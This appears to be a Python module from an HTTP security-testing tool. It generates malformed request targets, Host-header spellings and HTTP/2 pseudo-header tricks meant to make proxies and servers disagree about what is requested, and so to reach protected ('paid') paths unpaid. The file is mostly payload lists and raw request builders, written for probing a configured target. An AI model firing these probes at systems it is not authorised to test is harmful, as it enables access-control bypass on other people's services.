"""Other forms of the request target, and other names of the host.

A target can be a whole URL, an authority, or a star; the host is said in the target, in `Host`, in `:authority`, or not at
all. Servers that look at one and sites that look at another disagree about what is asked for.
"""

from collections.abc import Iterator

from core import http2
from core.attack import Attack, Need, Outcome, Try
from core.scene import PATIENCE_SECONDS, Scene
from core.target import WAYS, Way
from core.wire import Connection, answered

HOSTS = [b"LOCALHOST", b"localhost", b"localhost.", b"localhost:80", b"localhost:", b"localhost:0", b"localhost:65536",
    b"localhost:x",
         b"user@localhost", b"user:secret@localhost", b"localhost@example.com", b"example.com", b"evil.example", b"127.1", b"0",
         b"2130706433",
         b"0x7f000001", b"[::1]", b"[::1]:80", b"[0:0:0:0:0:0:0:1]", b"[::ffff:127.0.0.1]", b"[::1%25lo]", b"[::1", b"::1", b"",
         b" ",
         b"localhost localhost", b"localhost,localhost", b"localhost;x", b"localhost/", b"localhost/x", b"localhost%00",
         b"localhost%2f",
         b"localhost\t", b"\tlocalhost", b"local\xc4\xa7ost", b"xn--localhost", b"localhost#", b"localhost?x", b"localhost\\",
         b"'", b'"',
         b"a..b", b".localhost", b"..", b"*", b"_", b"-", b"localhost" * 40, b"a" * 64 + b".example"]  # fmt: skip


def tries(scene: Scene) -> Iterator[Try]:
    target = scene.target
    hosts = [target.host, *HOSTS]
    for way in WAYS:
        for host in hosts:
            yield scene.unpaid(f"{way.value} as the host {host!r}", way, target.path, host=host)
        for form in _forms(target.path, hosts):
            yield scene.unpaid(f"{way.value} the target {form!r}", way, form)
            if form.startswith((b"http", b"HTTP")):
                yield scene.unpaid(f"{way.value} OPTIONS of the target {form!r}", way, form, method=b"OPTIONS")
                yield scene.unpaid(f"{way.value} CONNECT of the target {form!r}", way, form, method=b"CONNECT")
        for authority in (target.host, b"localhost:80", b"*", b"", target.path):
            yield scene.unpaid(f"{way.value} CONNECT {authority!r}", way, authority, method=b"CONNECT")
    yield from _host_headers(scene)
    for way in (Way.H2, Way.H2C):
        yield from _pseudo_headers(scene, way)


def _forms(path: bytes, hosts: list[bytes]) -> Iterator[bytes]:
    for host in hosts:
        yield b"http://" + host + path
    host = hosts[0]
    for scheme in (b"https", b"HTTP", b"hTTp", b"ws", b"wss", b"ftp", b"file", b"javascript", b"", b"h+t-t.p", b"1http", b"*"):
        yield scheme + b"://" + host + path
    for start in (b"http:", b"http:/", b"http:///", b"http:////", b"http:\\\\", b"http:/\\", b"//", b"http://" + host + b":80",
                  b"http://x@" + host, b"http://" + host + b"\\", b"http://" + host + b"?", b"http://" + host + b"#",
                  b"http://" + host + b"//", b"http://" + host + b"/./", b"http://" + host + b"/x/..", b"http://" + host + b"%2f",
                  b"http://free/http://" + host, b"/http://" + host, b"http:%2f%2f" + host, b"//" + host,
                  b"/%2f" + host):  # fmt: skip
        yield start + path
    yield from (
        b"*",
        b"",
        b"?",
        b"#",
        b"/*",
        host,
        path[1:],
        b"*" + path,
        b"." + path,
        b".." + path,
        b"?" + path,
        b"#" + path,
        b"@" + path,
    )
    for end in (
        b"#x",
        b"?#",
        b"#?",
        b"?x#",
        b"#/../free",
        b"?/../free",
        b" ",
        b"\x00",
        b"?\x00",
        b"?" + b"a" * 9000,
        b"?&&&=",
        b"?%00",
        b"?%",
    ):
        yield path + end


def _host_headers(scene: Scene) -> Iterator[Try]:
    path, host = scene.target.path, scene.target.host
    free = scene.target.free_path or b"/"
    for fields in (
        b"", b"Host:\r\n", b"Host: \r\n", b"Host\r\n", b"Host : %s\r\n", b" Host: %s\r\n", b"Host: x\r\nHost: %s\r\n",
        b"Host: %s\r\nHost: x\r\n",
        b"Host: %s\r\n x\r\n", b"X: y\r\n Host: %s\r\n", b"Host:%s\r\n", b"host: %s\r\n", b"hOsT: %s\r\n", b"Host:\t%s\t\r\n",
        b"Host: x,%s\r\n",
        b"X-Forwarded-Host: %s\r\nHost: x\r\n", b"Host: x\r\nForwarded: host=%s\r\n", b"Host\x00: %s\r\n", b"Host: %s\x00\r\n",
        b"\x00Host: %s\r\n",
        b"Host: %s\nHost: x\r\n", b"Host: %s\rHost: x\r\n", b"HOST: %s\r\nHost_: x\r\n",
    ):  # fmt: skip
        filled = fields % host if b"%s" in fields else fields
        for version in (b"HTTP/1.1", b"HTTP/1.0"):
            data = b"GET %s %s\r\n%sX-Try: {mark}\r\nConnection: close\r\n\r\n" % (path, version, filled)
            yield scene.raw(f"{version.decode()} with {fields!r}", data, b"GET")
            data = b"GET http://%s%s %s\r\n%sX-Try: {mark}\r\nConnection: close\r\n\r\n" % (host, path, version, filled)
            yield scene.raw(f"{version.decode()}, absolute, with {fields!r}", data, b"GET")
    for first, second in ((free, path), (path, free)):
        data = b"GET http://%s%s HTTP/1.1\r\nHost: %s%s\r\nX-Try: {mark}\r\nConnection: close\r\n\r\n" % (
            host,
            first,
            host,
            second,
        )
        yield scene.raw(f"the target {first!r} and the path {second!r} in Host", data, b"GET")


def _pseudo_headers(scene: Scene, way: Way) -> Iterator[Try]:
    path, host = scene.target.path, scene.target.host
    free = scene.target.free_path or b"/"
    usual = {b":method": b"GET", b":scheme": b"http", b":authority": host, b":path": path}
    lists: list[tuple[str, list[tuple[bytes, bytes]]]] = []
    for left_out in usual:
        lists.append((f"without {left_out!r}", [item for item in usual.items() if item[0] != left_out]))
    for scheme in (b"https", b"ftp", b"", b"http://x/", b"http://" + host + path + b"?", b"HTTP"):
        lists.append((f"the scheme {scheme!r}", list((usual | {b":scheme": scheme}).items())))
    for one, other in ((free, path), (path, free)):
        twice = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", host), (b":path", one), (b":path", other)]
        lists.append((f"the paths {one!r} and {other!r}", twice))
        late = [*(usual | {b":path": one}).items(), (b"x", b"y"), (b":path", other)]
        lists.append((f"{one!r}, and {other!r} behind a header", late))
    for authority, named in (
        (host, b"x"),
        (b"x", host),
        (b"", host),
        (host, b""),
        (host + path, host),
        (b"x" + path + b"?", host),
    ):
        lists.append((f":authority {authority!r} and host {named!r}",
                      [*(usual | {b":authority": authority}).items(), (b"host", named)]))  # fmt: skip
    lists.append(("two hosts", [*usual.items(), (b"host", b"a"), (b"host", host)]))
    for name in (b":protocol", b":status", b":x", b":", b":PATH"):
        lists.append((f"with {name!r}", [*usual.items(), (name, path)]))
    connect = usual | {b":method": b"CONNECT"}
    lists.append(("CONNECT with all", list(connect.items())))
    lists.append(("CONNECT", [(b":method", b"CONNECT"), (b":authority", host + path)]))
    lists.append(("extended CONNECT", [*connect.items(), (b":protocol", b"websocket")]))
    for name, fields in lists:
        mark = scene.mark()
        data = http2.start() + http2.headers([*fields, (b"x-try", mark)])
        needs = (Need.SECRET, *scene.target.needs(way))
        yield Try(f"{way.value} {name}", lambda data=data, mark=mark, way=way: frames(scene, way, data, mark), needs)


async def frames(scene: Scene, way: Way, data: bytes, mark: bytes) -> Outcome:
    """Sends frames as they are, and judges what comes back as unpaid."""
    door = scene.target.door(way)
    assert door
    async with Connection(door, alpn="h2", patience=PATIENCE_SECONDS) as connection:
        await connection.send(data)
        exchange = await connection.read(answered(1))
    return scene.judge([exchange], mark)


ATTACK = Attack("targets", 5, "absolute, authority and broken targets, spellings of the host", tries)
